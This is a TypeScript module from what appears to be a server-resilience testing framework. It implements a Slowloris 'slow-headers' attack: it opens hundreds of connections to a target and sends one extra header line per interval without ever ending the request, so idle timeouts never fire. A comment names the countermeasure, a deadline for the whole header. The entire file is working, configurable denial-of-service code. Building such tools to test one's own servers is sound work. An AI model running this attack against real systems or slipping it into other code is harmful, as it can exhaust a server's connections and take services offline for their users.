import { z } from 'zod';
import { attackOf } from './attack.ts';
import { attackFault } from './attacker/attack-fault.ts';
import { holdingOpening, holdingShape } from './script/opening.ts';
import { requestHead } from './script/request-text.ts';

/**
 * Slowloris: a request whose headers never end. Each line arrives in time, so an idle timeout never fires; only a deadline for
 * the whole header does.
 */
export const attack = attackOf({
  kind: 'slow-headers',
  summary: 'Slowloris: sends one more header line every interval and never the last one.',
  defaultForMs: 15_000,
  needsModel: false,
  parameters: z.object({
    ...holdingShape({ connections: 500, perSecond: 200, path: '/' }),
    intervalMs: z.number().min(10).max(600_000).default(1000).describe('between two header lines'),
    lineBytes: z.int().min(6).max(4096).default(24).describe('length of each line'),
  }),
  script: (parameters, target) => {
    const first = requestHead(target, 'GET', parameters.path, ['User-Agent: Mozilla/5.0', 'Accept: */*']);
    const againMs = parameters.intervalMs;
    return {
      opening: holdingOpening(parameters),
      read: 'all',
      answers: null,
      step: (_connection, turn) =>
        turn === 0 ? { write: first, againMs } : { write: headerLine(turn, parameters.lineBytes), againMs },
    };
  },
});

/** A header line of its own name each time, so that a server that folds equal names holds them all. */
function headerLine(turn: number, bytes: number): string {
  const start = `X-${turn}: `;
  return `${start}${'a'.repeat(Math.max(1, bytes - start.length - 2))}\r\n`;
}

/** The same in a scenario. */
export const fault = attackFault(attack);
